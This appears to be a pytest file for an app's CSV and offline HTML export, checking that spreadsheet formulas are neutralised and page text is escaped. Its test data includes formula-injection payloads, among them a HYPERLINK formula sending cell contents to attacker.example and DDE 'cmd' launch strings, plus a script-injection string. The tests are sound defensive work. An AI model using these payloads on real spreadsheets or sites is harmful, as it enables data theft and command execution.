"""A comparison to take away: standalone HTML that needs no network, and CSV."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pandas as pd

from pathways import export, load_content, viewmodels

from .conftest import GOOD

CONTENT = load_content(GOOD)


def test_csv_has_every_rating_with_its_reason():
    table = pd.read_csv(
        io.StringIO(export.comparison_csv(viewmodels.compare(CONTENT, ["alpha", "beta"])))
    )
    assert list(table.columns) == ["pathway", "dimension", "score", "reason"]
    assert len(table) == 2 * len(viewmodels.tables.DIMENSIONS)
    assert "Alpha reason one." in set(table["reason"])


FORMULAS = [
    '=HYPERLINK("https://attacker.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "A fair reason.\r=1+1",
    "A fair reason.\n@SUM(1+1)",
]


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote():
    alpha, beta = CONTENT.pathways["alpha"], CONTENT.pathways["beta"]
    ratings = {
        key: rating.model_copy(update={"reason": FORMULAS[i % len(FORMULAS)]})
        for i, (key, rating) in enumerate(beta.ratings.items())
    }
    hostile = beta.model_copy(update={"short_name": "=1+1", "ratings": ratings})
    content = type(CONTENT)(CONTENT.root, {"alpha": alpha, "beta": hostile})
    text = export.comparison_csv(viewmodels.compare(content, ["alpha", "beta"]))
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(alpha.ratings) + len(ratings)  # no line break starts a new row
    hostile_rows = [row for row in rows if row["pathway"] == "'=1+1"]
    assert len(hostile_rows) == len(ratings)
    assert {row["reason"] for row in hostile_rows} == {
        f if f[0].isalpha() else "'" + f for f in FORMULAS
    }
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # numbers stay numbers, and ordinary text is untouched
    assert {row["score"] for row in rows} <= {"0", "1", "2", "3", "4"}
    assert "Alpha reason one." in {row["reason"] for row in rows}


def test_spreadsheet_safe_changes_only_text_that_starts_like_a_formula():
    assert export.spreadsheet_safe("=A1") == "'=A1"
    assert export.spreadsheet_safe("a = b") == "a = b"
    assert export.spreadsheet_safe("") == ""
    assert export.spreadsheet_safe(-3) == -3
    assert export.spreadsheet_safe(2.5) == 2.5


def test_html_inlines_the_chart_library_and_loads_nothing_from_the_network():
    page = export.comparison_html(CONTENT, ("alpha", "beta"), dt.date(2026, 11, 26))
    assert page.startswith("<!doctype html>")
    assert "Comparing: Alpha pathway, Beta pathway" in page
    assert "26 November 2026" in page and "1-800-662-4357" in page
    assert re.findall(r"<script[^>]+src=", page) == []
    assert page.count("Plotly.newPlot") == 6
    assert "Alpha reason one." in page


def test_html_carries_every_safety_fact():
    page = export.comparison_html(CONTENT, ("alpha", "beta"), dt.date(2026, 11, 26))
    for fact in CONTENT.about.safety:
        assert fact.title in page
    assert "30 to 90 minutes" in page and "benzodiazepines" in page


def test_html_keeps_the_required_safety_facts_without_an_about_file():
    bare = type(CONTENT)(CONTENT.root, dict(CONTENT.pathways))
    page = export.comparison_html(bare, ("alpha", "beta"), dt.date(2026, 11, 26))
    assert "If someone may have overdosed" in page and "benzodiazepines" in page


def test_content_text_is_escaped_in_the_html():
    beta = CONTENT.pathways["beta"]
    hostile = beta.model_copy(update={"name": "<script>alert(1)</script>"})
    content = type(CONTENT)(CONTENT.root, {"alpha": CONTENT.pathways["alpha"], "beta": hostile})
    page = export.comparison_html(content, ("alpha", "beta"))
    assert "<script>alert(1)</script>" not in page


def test_quiz_score_counts_right_answers_among_those_answered():
    assert viewmodels.quiz_score(CONTENT, {}) == (0, 0)
    assert viewmodels.quiz_score(CONTENT, {"groups-are-free": 1, "any-change-counts": 0}) == (1, 2)
    assert viewmodels.quiz_score(CONTENT, {"groups-are-free": None}) == (0, 0)
